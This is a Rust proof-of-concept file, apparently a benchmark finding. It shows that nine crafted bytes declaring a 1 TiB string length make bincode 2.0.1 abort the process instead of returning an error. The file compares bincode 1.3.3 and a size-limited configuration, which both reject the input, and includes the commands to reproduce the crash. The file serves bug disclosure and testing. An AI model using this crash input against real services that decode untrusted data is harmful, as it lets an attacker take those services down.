// Nine bytes abort the process: a text's length is asked of the allocator before anything is read.
// bincode 2.0.1; bincode 1.3.3 refuses the same bytes
// run: d=$(mktemp -d) && cargo init -q --vcs none --name finding $d && cp benches/findings/rust/bincode_length.rs $d/src/main.rs && cd $d && cargo add -q bincode@=2.0.1 && cargo add -q bincode@=1.3.3 --rename bincode1 && cargo build -q && cargo run -q; test $? = 134
// Prints: bincode 1: io error
//   bincode 2, with a limit: LimitExceeded
//   memory allocation of 1099511627776 bytes failed
// SIGABRT is the finding: no error is returned.
use bincode::{config, decode_from_slice};
use bincode1::Options;

fn main() {
    let mut bytes = vec![0xfd];
    bytes.extend((1u64 << 40).to_le_bytes());
    let first = bincode1::options().deserialize::<String>(&bytes);
    println!("bincode 1: {}", first.unwrap_err());
    let limited = decode_from_slice::<String, _>(&bytes, config::standard().with_limit::<1024>());
    println!("bincode 2, with a limit: {}", limited.unwrap_err());
    let _ = decode_from_slice::<String, _>(&bytes, config::standard());
}
